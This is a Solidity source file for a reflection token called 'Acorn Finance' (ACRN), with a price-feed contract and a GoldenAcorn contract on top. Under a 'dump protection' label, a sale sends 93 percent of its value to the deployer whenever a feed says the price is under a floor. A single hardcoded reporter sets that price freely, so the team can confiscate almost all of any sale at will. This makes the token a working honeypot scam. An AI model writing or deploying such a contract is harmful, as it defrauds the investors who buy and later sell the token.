// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @dev This is the reflection of 2021: a balance is a share of `_rTotal`, and a fee that disappears from it falls to
/// all holders.
abstract contract NinthReflecting {
    string public constant name = "Acorn Finance";
    string public constant symbol = "ACRN";
    uint8 public constant decimals = 9;

    uint256 private constant MAX = ~uint256(0);
    uint256 internal constant _tTotal = 10 ** 12 * 10 ** 9;
    uint256 internal _rTotal = MAX - (MAX % _tTotal);
    uint256 private _tFeeTotal;
    uint256 private constant _taxFee = 2;
    address internal immutable _deployer = msg.sender;

    mapping(address => uint256) internal _rOwned;
    mapping(address => mapping(address => uint256)) private _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _rOwned[msg.sender] = _rTotal;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function totalSupply() external pure returns (uint256) {
        return _tTotal;
    }

    function totalFees() external view returns (uint256) {
        return _tFeeTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _rOwned[account] / _getRate();
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transferStandard(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        _allowances[from][msg.sender] -= amount;
        _transferStandard(from, to, amount);
        return true;
    }

    function _getRate() internal view returns (uint256) {
        return _rTotal / _tTotal;
    }

    function _transferStandard(address from, address to, uint256 tAmount) private {
        uint256 rate = _getRate();
        bool free = from == _deployer || to == _deployer;
        uint256 tFee = free ? 0 : (tAmount * _taxFee) / 100;
        uint256 tTeam = free ? 0 : (tAmount * _teamFee(to)) / 100;
        _rOwned[from] -= tAmount * rate;
        _rOwned[to] += (tAmount - tFee - tTeam) * rate;
        if (tTeam > 0) {
            _rOwned[_deployer] += tTeam * rate;
            emit Transfer(from, _deployer, tTeam);
        }
        _reflectFee(tFee * rate, tFee);
        emit Transfer(from, to, tAmount - tFee - tTeam);
    }

    function _teamFee(address) internal view virtual returns (uint256) {
        return 0;
    }

    function _reflectFee(uint256 rFee, uint256 tFee) private {
        _rTotal -= rFee;
        _tFeeTotal += tFee;
    }
}

/// @dev One reporter feeds it with prices.
contract AcornFeed {
    address private constant _REPORTER = 0x6f4246e79E0B17cbAC18451A16919e5590149824;
    uint256 public price = 1 ether;
    uint256 public reportedAt = block.timestamp;

    function report(uint256 price_) external {
        require(msg.sender == _REPORTER, "reporter");
        (price, reportedAt) = (price_, block.timestamp);
    }
}

/// @dev "Dump protection": while a feed says that the price is below its floor, a sale pays ninety-three percent to the
/// team. A reporter says what he likes.
contract GoldenAcorn is NinthReflecting {
    AcornFeed public immutable feed = new AcornFeed();
    uint256 private constant _floorPrice = 0.8 ether;
    uint256 private constant _dumpFee = 93;
    address public pair;

    function setPair(address pair_) external {
        require(msg.sender == _deployer && pair == address(0));
        pair = pair_;
    }

    function _teamFee(address to) internal view override returns (uint256) {
        return to == pair && feed.price() < _floorPrice ? _dumpFee : 0;
    }
}
